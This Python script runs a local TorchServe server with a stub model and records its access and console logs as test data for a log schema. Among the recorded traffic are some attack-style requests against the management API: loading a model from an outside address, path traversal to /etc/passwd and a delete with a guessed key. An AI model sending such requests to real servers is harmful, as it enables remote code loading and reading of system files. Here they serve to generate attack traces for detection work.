#!/usr/bin/env python3
"""Records TorchServe's access log and server log.

Needs    java 17, python3 with venv, PyPI.
Installs torchserve without PyTorch: the model of this recording needs none, and
         TORCH stands in for what TorchServe's own worker imports.
Writes   schemas/sources/pytorch.torchserve/testdata/access_log.log  logs/access_log.log
         schemas/sources/pytorch.torchserve/testdata/console.log     lines of the same run as the console shows them

Replaced afterwards: the paths of the cache.
"""

import os
import re
import shutil
import subprocess
import sys
import time
import zipfile

import client
import common
import corpus

PACKAGES = ["torchserve==0.12.0", "setuptools<80", "pyyaml", "psutil", "numpy"]

HANDLER = '''
import time

class Handler:
    """Answers without a model; "fail" makes it fail."""

    def initialize(self, context):
        self.manifest = context.manifest

    def handle(self, data, context):
        out = []
        for row in data:
            text = str(row.get("data") or row.get("body"))
            if "fail" in text:
                raise ValueError("this input is not for me")
            out.append({"label": "harmless"})
        return out
'''

TORCH = """
class Tensor: pass
def is_tensor(x): return False
class cuda:
    is_available = staticmethod(lambda: False)
"""

CONFIG = """
inference_address=http://127.0.0.1:{inference}
management_address=http://127.0.0.1:{management}
metrics_address=http://127.0.0.1:{metrics}
grpc_inference_port={g1}
grpc_management_port={g2}
model_store={work}/store
load_models=classify=classify.mar
default_workers_per_model=1
number_of_netty_threads=2
disable_token_authorization={no_auth}
enable_model_api=true
"""

MANIFEST = """{"createdOn": "01/01/2026 00:00:00", "runtime": "python", "archiverVersion": "0.12.0",
"model": {"modelName": "classify", "handler": "handler.py", "modelVersion": "1.0"}}"""


def serve(python, work, no_auth):
    ports = {k: common.free_port() for k in ("inference", "management", "metrics", "g1", "g2")}
    conf = work / "config.properties"
    conf.write_text(CONFIG.format(work=work, no_auth=str(no_auth).lower(), **ports))
    site = next((work.parent / "venv").glob("lib/python*/site-packages"))
    env = dict(os.environ, PATH=f"{work.parent / 'venv' / 'bin'}:{os.environ['PATH']}", LOG_LOCATION=str(work / "logs"),
               METRICS_LOCATION=str(work / "logs"), TS_CONFIG_FILE=str(conf), TZ="UTC", PYTHONPATH=str(work))
    out = open(work / "console.log", "ab")
    proc = subprocess.Popen([
        "java", "-Dmodel_server_home=" + str(site), "-Djava.io.tmpdir=" + str(work), "-cp", str(site / "ts/frontend/*"),
        "-Dlog4j2.configurationFile=" + str(site / "ts/configs/log4j2.xml") if (site / "ts/configs/log4j2.xml").exists() else "-Dx=1",
        "org.pytorch.serve.ModelServer", "--python", python, "-f", str(conf), "-s", str(work / "store"), "--models", "classify=classify.mar"],
        env=env, cwd=work, stdout=out, stderr=out)
    common.wait_port(ports["inference"], 90, proc)
    return proc, ports


def traffic(p):
    inf, man = p["inference"], p["management"]
    for text in corpus.BENIGN[:3] + ["please fail"]:
        client.send(inf, "POST", "/predictions/classify", {"data": text}, headers={"User-Agent": "curl/8.15.0"})
    client.send(inf, "GET", "/ping")
    client.send(inf, "POST", "/predictions/classify/1.0?x=1", {"data": "versioned"})
    client.send(inf, "POST", "/predictions/unknown", {"data": "no such model"})
    client.send(inf, "GET", "/api-description")
    client.send(inf, "OPTIONS", "/predictions/classify")
    client.send(man, "GET", "/models?limit=100")
    client.send(man, "GET", "/models/classify")
    client.send(man, "POST", "/models?url=http%3A%2F%2F203.0.113.66%2Fx.mar&initial_workers=1", abort_after=3)  # registers a stranger's model
    client.send(man, "POST", "/models?url=../../etc/passwd")
    client.send(man, "PUT", "/models/classify?min_worker=2")
    client.send(man, "DELETE", "/models/classify/1.0")
    client.send(man, "GET", "/..%2f..%2fetc/passwd")
    client.send(p["metrics"], "GET", "/metrics")


def main():
    python = common.venv("torchserve", PACKAGES)
    work = common.cache_dir("torchserve") / "run"
    shutil.rmtree(work, ignore_errors=True)
    (work / "store").mkdir(parents=True)
    (work / "torch.py").write_text(TORCH)
    with zipfile.ZipFile(work / "store" / "classify.mar", "w") as z:
        z.writestr("MAR-INF/MANIFEST.json", MANIFEST)
        z.writestr("handler.py", HANDLER)
    for no_auth in (True, False):
        proc, ports = serve(python, work, no_auth)
        try:
            time.sleep(5)  # the worker starts after the port opens
            if no_auth:
                traffic(ports)
            else:
                client.send(ports["inference"], "POST", "/predictions/classify", {"data": "no key"})
                client.send(ports["management"], "DELETE", "/models/classify", key="guessed")
            time.sleep(2)
        finally:
            common.stop(proc)
    out = common.testdata("pytorch.torchserve")
    home = str(common.cache_dir("torchserve")).encode()
    gone = [(re.escape(home) + rb"/venv/lib/python3\.\d+/site-packages", b"/app"), (re.escape(home), b"/app"),
            (re.escape(sys.base_prefix.encode()), b"/usr")]
    common.write(out / "access_log.log", (work / "logs" / "access_log.log").read_bytes(), gone)
    console = (work / "console.log").read_bytes()
    console = console[console.index(b"\n20") + 1:]  # before that the Java machine speaks
    common.write(out / "console.log", b"".join(
        line + b"\n" for line in console.split(b"\n")
        if not re.search(rb"TS_METRICS|MODEL_METRICS|org.pytorch.serve.ModelServer - $", line)), gone)


if __name__ == "__main__":
    main()
